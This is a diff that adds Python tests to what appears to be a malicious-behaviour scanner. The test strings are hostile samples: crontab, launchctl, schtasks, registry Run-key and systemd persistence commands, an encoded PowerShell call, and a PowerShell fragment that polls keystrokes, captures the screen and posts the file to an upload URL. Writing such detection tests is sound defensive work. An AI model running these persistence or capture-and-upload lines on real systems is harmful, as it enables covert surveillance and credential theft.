@@ -34,3 +34,27 @@ def test_urls_in_comments_and_plain_variables_are_not_downloads() -> None:
 
 def test_encoded_powershell_runs_decoded_code() -> None:
     assert ("decoded-exec", "powershell") in _details("powershell -nop -enc SQBFAFgA\n")
+
+
+def test_persistence_commands_are_risky_writes_but_listing_a_crontab_is_not() -> None:
+    for line in (
+        '(crontab -l; echo "*/5 * * * * node ~/.cache/u.js") | crontab -\n',
+        "launchctl load ~/Library/LaunchAgents/com.update.plist\n",
+        'schtasks /create /sc minute /tn "Upd" /tr "node u.js"\n',
+        r"reg add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v u /d x.exe" + "\n",
+        "systemctl --user enable updater.service\n",
+    ):
+        assert (Capability.FILE_WRITE.value, "persistence") in _details(line), line
+    assert _details("crontab -l\n") == set()
+
+
+def test_keystroke_polling_and_screen_capture_read_as_credential_access() -> None:
+    script = (
+        '[DllImport("user32.dll")] public static extern short GetAsyncKeyState(int vKey);\n'
+        "$graphics.CopyFromScreen($screen.Left, $screen.Top, 0, 0, $bitmap.Size)\n"
+        "Invoke-RestMethod -Uri $Upload -Method Post -Form @{ shot = $file }\n"
+    )
+    found = _details(script)
+    assert ("credential-access", "keystrokes") in found
+    assert ("credential-access", "screen") in found
+    assert (Capability.NETWORK.value, "powershell") in found
